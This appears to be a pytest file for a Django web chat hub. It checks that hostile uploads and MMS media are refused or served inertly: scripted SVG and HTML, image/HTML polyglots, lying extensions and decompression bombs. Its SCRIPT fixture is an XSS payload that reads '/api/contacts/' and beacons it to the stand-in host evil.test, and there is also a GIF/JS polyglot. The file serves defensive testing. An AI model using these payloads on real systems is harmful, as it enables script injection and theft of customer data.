"""The attacker's list for files a visitor attaches in the web chat: SVG and HTML with script, polyglots (an
image header in front of a page), a lying extension, decompression bombs and over-size files. Nothing a
visitor sends may run in the hub's origin: what is not a sound raster image is refused at the upload, and
the agent's download carries a type sniffed from the bytes, nosniff, a sandboxing CSP and, for anything
that is not an image or audio, `Content-Disposition: attachment`.

(Allowed origins, size limit and someone else's upload reference: tests/channels_adapters/webchat/.)
"""

from __future__ import annotations

from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from channels_adapters.webchat.identity import visitor_token_new
from conversations.models import Attachment, Inbox
from tests.conftest import sms_in, twilio_fixture
from tests.images import gif, jpeg, png, webp
from tests.webchat import SHOP, inbox_webchat, visitor_for

__all__ = ["inbox_webchat", "visitor_for"]  # fixtures

SCRIPT = b"<script>fetch('/api/contacts/').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.test',t))</script>"


def upload(inbox: Inbox, name: str, content: bytes, content_type: str = "image/png") -> Any:
    _, token = visitor_token_new(inbox_id=inbox.pk)
    return Client().post(
        "/webchat/uploads/",
        {
            "file": SimpleUploadedFile(name, content, content_type=content_type),
            "visitor": token,
            "widget_key": inbox.widget_key,
        },
        HTTP_ORIGIN=SHOP,
    )


def csp(response: Any) -> set[str]:
    return {directive.strip() for directive in response["Content-Security-Policy"].split(";")}


HOSTILE: list[tuple[str, str, bytes, str]] = [
    # (what it is, the name the visitor gives it, the bytes, the type the browser claims)
    (
        "svg with script",
        "logo.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
        "image/svg+xml",
    ),
    (
        "svg named png",
        "logo.png",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "image/png",
    ),
    ("html", "invoice.html", b"<!doctype html><html><body>" + SCRIPT + b"</body></html>", "text/html"),
    ("html named pdf", "invoice.pdf", b"<html>" + SCRIPT, "application/pdf"),
    ("gif header then html", "cat.gif", b"GIF89a<html><body>" + SCRIPT + b"</body></html>", "image/gif"),
    (
        "gif/js polyglot",
        "cat.gif",
        b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//",
        "image/gif",
    ),
    ("png with a page in its text chunk", "shoe.png", png(text=b"<html><body>" + SCRIPT), "image/png"),
    ("png with a page appended", "shoe.png", png(after=b"\x00" * 2048 + b"<html>" + SCRIPT), "image/png"),
    ("gif with a page appended", "cat.gif", gif(after=b"\x00" * 2048 + SCRIPT), "image/gif"),
    ("jpeg header then html", "photo.jpg", b"\xff\xd8\xff\xe0<html>" + SCRIPT, "image/jpeg"),
    ("png bomb", "huge.png", png(50_000, 50_000), "image/png"),
    ("gif bomb", "huge.gif", gif(65_535, 65_535), "image/gif"),
    ("jpeg bomb", "huge.jpg", jpeg(60_000, 60_000), "image/jpeg"),
    ("webp bomb", "huge.webp", webp(16_000, 16_000), "image/webp"),
    ("png with a damaged chunk", "shoe.png", png()[:-5] + b"XXXXX", "image/png"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("case", "name", "content", "claimed"), HOSTILE, ids=[case[0] for case in HOSTILE])
def test_hostile_files_are_refused_at_the_upload_with_a_reason(
    case: str, name: str, content: bytes, claimed: str, inbox_webchat: Inbox
) -> None:
    response = upload(inbox_webchat, name, content, claimed)
    assert response.status_code == 400, (case, response.content)
    assert response.json()["code"] == "file_type"
    assert response.json()["error"]  # a sentence the visitor reads


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (png(640, 480), "image/png"),
        (gif(), "image/gif"),
        (jpeg(4032, 3024), "image/jpeg"),
        (webp(), "image/webp"),
    ],
    ids=["png", "gif", "jpeg", "webp"],
)
def test_sound_images_of_every_kind_are_still_taken(
    content: bytes, expected: str, inbox_webchat: Inbox
) -> None:
    """The refusals above are not an upload that refuses every picture."""
    response = upload(inbox_webchat, "picture", content)
    assert response.status_code == 201, response.content
    assert response.json()["name"] == f"picture.{expected.split('/')[1].replace('jpeg', 'jpg')}"


@pytest.mark.django_db
def test_over_size_is_refused_before_the_file_is_read(settings: Any, inbox_webchat: Inbox) -> None:
    settings.WEBCHAT_UPLOAD_MAX_BYTES = 1000
    response = upload(inbox_webchat, "big.png", png(text=b"x" * 2000))
    assert response.status_code == 400 and response.json()["code"] == "too_large"


@pytest.mark.django_db(transaction=True)
@pytest.mark.asyncio
async def test_a_picture_named_html_reaches_the_agent_as_a_png_that_cannot_run(
    visitor_for, inbox_webchat, agent_alice
) -> None:
    """The name a visitor gives a file never decides how it is served: `page.html` holding a PNG is stored
    and downloaded as `page.png`, image/png, nosniff, sandboxed."""
    visitor = visitor_for()
    assert await visitor.connect()
    token = (await visitor.hello())["visitor"]

    def post() -> Any:
        return Client().post(
            "/webchat/uploads/",
            {
                "file": SimpleUploadedFile("page.html", png(), content_type="text/html"),
                "visitor": token,
                "widget_key": inbox_webchat.widget_key,
            },
            HTTP_ORIGIN=SHOP,
        )

    response = await sync_to_async(post)()
    assert response.status_code == 201, response.content
    assert response.json()["name"] == "page.png"
    await visitor.send(type="message", id="abcdefgh1", body="see", files=[response.json()["upload"]])
    await visitor.until(lambda f: f["type"] == "message")
    await visitor.close()

    def download() -> Any:
        attachment = Attachment.objects.get()
        assert (attachment.filename, attachment.content_type) == ("page.png", "image/png")
        client = Client()
        client.force_login(agent_alice)
        return client.get(f"/attachments/{attachment.pk}/")

    got = await sync_to_async(download)()
    assert got["Content-Type"] == "image/png"
    assert got["Content-Disposition"] == 'inline; filename="page.png"'
    assert got["X-Content-Type-Options"] == "nosniff"
    assert csp(got) == {"sandbox", "default-src 'none'"}


# --- the download, whatever is stored ---------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize(
    ("stored_type", "filename", "content"),
    [
        ("image/svg+xml", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"),
        ("text/html", "page.html", b"<html>" + SCRIPT),
        ("application/pdf", "invoice.pdf", b"%PDF-1.7\n"),
        ("application/octet-stream", "page.html", b"<html>" + SCRIPT),
        ("image/png", "page.html", png()),  # an inline image keeps the extension of what it is
    ],
    ids=["svg", "html", "pdf", "unknown", "png named html"],
)
def test_nothing_stored_is_served_so_that_it_runs_in_the_hubs_origin(
    stored_type: str, filename: str, content: bytes, inbox_support: Inbox, agent_alice: Any
) -> None:
    """Attachments come from email and MMS as well, and rows outlive the code that stored them: the
    download itself decides, not only the upload. SVG and HTML are never inline, whatever the row says."""
    entry = sms_in(inbox_support, "Here it is")
    attachment = Attachment(
        entry=entry, state="stored", content_type=stored_type, filename=filename, size=len(content)
    )
    attachment.file.save(filename, ContentFile(content))
    client = Client()
    client.force_login(agent_alice)
    got = client.get(f"/attachments/{attachment.pk}/")
    assert got.status_code == 200
    assert got["X-Content-Type-Options"] == "nosniff"
    assert csp(got) == {"sandbox", "default-src 'none'"}
    if stored_type == "image/png":
        assert got["Content-Type"] == "image/png"
        assert got["Content-Disposition"] == 'inline; filename="page.png"'
    else:
        assert got["Content-Type"] == "application/octet-stream"
        assert got["Content-Disposition"].startswith("attachment;")


# --- the same check on media that arrives by MMS ----------------------------------------------------------
@pytest.mark.django_db
def test_an_mms_image_bomb_or_polyglot_is_kept_as_a_file_and_never_drawn(
    deliver_inbound, inbox_support, fake_twilio
) -> None:
    fake_twilio.state.media["/media/ME0"] = (png(50_000, 50_000), "image/png")
    fake_twilio.state.media["/media/ME1"] = (b"GIF89a<html>" + SCRIPT, "image/gif")
    params = twilio_fixture(
        "inbound_mms", MediaUrl0=f"{fake_twilio.url}/media/ME0", MediaUrl1=f"{fake_twilio.url}/media/ME1"
    )
    deliver_inbound(params)
    bomb, polyglot = Attachment.objects.order_by("position")
    for attachment in (bomb, polyglot):
        assert attachment.state == Attachment.STORED  # the customer's file is kept
        assert attachment.content_type == "application/octet-stream" and not attachment.is_inline_image
        assert attachment.filename.endswith(".bin")
